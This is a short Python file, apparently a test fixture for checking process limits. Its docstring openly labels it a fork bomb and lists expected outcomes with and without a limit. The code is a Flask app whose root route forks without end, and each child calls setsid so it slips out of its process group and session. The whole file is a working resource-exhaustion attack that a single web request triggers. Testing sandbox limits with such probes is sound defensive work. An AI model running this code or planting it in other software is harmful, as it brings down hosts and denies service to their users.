"""A fork bomb whose every process leaves its group and session.

alone: it takes every core
told: 64 processes
"""

import os

from flask import Flask

app = Flask(__name__)


@app.get("/")
def index():
    while True:
        if os.fork() == 0:
            os.setsid()
